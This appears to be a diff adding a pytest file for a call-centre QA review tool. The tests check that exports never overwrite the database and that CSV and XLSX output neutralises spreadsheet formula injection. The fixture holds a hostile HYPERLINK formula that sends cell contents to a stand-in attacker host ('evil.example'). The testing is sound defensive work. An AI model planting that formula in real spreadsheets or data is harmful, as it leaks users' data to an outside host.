@@ -1,0 +1,98 @@
+"""Exports never destroy a file by accident, and never carry a live formula into a spreadsheet."""
+
+import csv
+import io
+import json
+
+import pytest
+from click.testing import CliRunner
+from openpyxl import load_workbook
+
+from qa_review.cli import cli
+from qa_review.core.permissions import User
+from qa_review.services import review, scoring
+from qa_review.services.database import open_database
+
+SUPERVISOR = User("sup", "supervisor")
+EVIL_OPERATOR = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
+
+
+def invoke(*args):
+    result = CliRunner().invoke(cli, [str(a) for a in args])
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    return result
+
+
+@pytest.fixture
+def db(tmp_path):
+    chat = {
+        "conversation_id": "chat-x",
+        "operator": EVIL_OPERATOR,
+        "started_at": "2026-11-04T19:00:00+03:00",
+        "channel": "chat",
+        "phone": "+79161234567",
+        "messages": [
+            {"speaker": "client", "at": "2026-11-04T19:00:00+03:00", "text": "=1+2"},
+            {"speaker": "operator", "at": "2026-11-04T19:00:30+03:00", "text": "@SUM(A1:A9) Здравствуйте!"},
+            {"speaker": "client", "at": "2026-11-04T19:01:00+03:00", "text": "-2+3 и\tещё"},
+        ],
+    }
+    (tmp_path / "chat.json").write_text(json.dumps(chat, ensure_ascii=False))
+    path = tmp_path / "qa.db"
+    assert invoke("--db", path, "ingest", tmp_path / "chat.json").exit_code == 0
+    # A supervisor finalizes it, so it counts in the month's KPIs.
+    storage = open_database(path)
+    ((row, card),) = scoring.scorecards(storage, "chat-x")
+    for item in card.items:
+        if item.verdict == "review":
+            review.set_verdict(storage, SUPERVISOR, row["id"], item.item_id, "pass", "ok", None)
+    review.finalize(storage, SUPERVISOR, row["id"], None)
+    storage.close()
+    return path
+
+
+def test_an_export_never_replaces_the_database(db, tmp_path):
+    before = db.read_bytes()
+    for force in ([], ["--force"]):
+        result = invoke("--db", db, "export", "scores", "-o", db, *force)
+        assert result.exit_code == 2 and "SQLite database" in result.output
+    assert db.read_bytes() == before
+    assert "1 call(s)" in invoke("--db", db, "calls").output
+
+
+def test_an_existing_file_is_replaced_only_with_force(db, tmp_path):
+    out = tmp_path / "scores.csv"
+    out.write_text("last month's figures")
+    refused = invoke("--db", db, "export", "scores", "-o", out)
+    assert refused.exit_code == 2 and "--force" in refused.output
+    assert out.read_text() == "last month's figures"
+    assert invoke("--db", db, "export", "scores", "-o", out, "--force").exit_code == 0
+    assert out.read_text().startswith("call_id,")
+
+
+def test_csv_cells_that_would_run_as_formulas_are_quoted_and_numbers_stay_numbers(db, tmp_path):
+    scores = list(csv.DictReader(io.StringIO(invoke("--db", db, "export", "scores").output)))
+    assert {r["operator"] for r in scores} == {"'" + EVIL_OPERATOR}
+    assert all(r["score"] == "" or float(r["score"]) >= 0 for r in scores)  # not quoted
+    assert all(not r["weight"].startswith("'") for r in scores)
+
+    rows = list(csv.DictReader(io.StringIO(invoke("--db", db, "export", "transcripts", "--format", "csv").output)))
+    assert [r["text"] for r in rows] == ["'=1+2", "'@SUM(A1:A9) Здравствуйте!", "'-2+3 и\tещё"]
+    assert {r["phone"] for r in rows} == {"'+79161234567"}  # a phone stays text, not 7.9E+10
+    assert {r["start"] for r in rows} == {"0.00", "30.00", "60.00"}
+
+    kpi = invoke("--db", db, "kpi", "--month", "2026-11").output
+    data = list(csv.DictReader(io.StringIO(kpi.split("\n", 1)[1]), delimiter=";"))
+    assert [r["operator"] for r in data] == ["'" + EVIL_OPERATOR]
+
+
+def test_xlsx_text_cells_are_text_never_formulas(db, tmp_path):
+    out = tmp_path / "kpi.xlsx"
+    assert invoke("--db", db, "kpi", "--month", "2026-11", "--format", "xlsx", "-o", out).exit_code == 0
+    ws = load_workbook(out)["Операторы"]
+    header = [c.value for c in ws[2]]
+    (row,) = [r for r in ws.iter_rows(min_row=3) if r[0].value is not None]
+    operator = row[header.index("Оператор")]
+    assert operator.value == EVIL_OPERATOR and operator.data_type == "s"  # shown as typed, not run
+    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
+    assert isinstance(row[header.index("Коэффициент премии")].value, (int, float, type(None)))
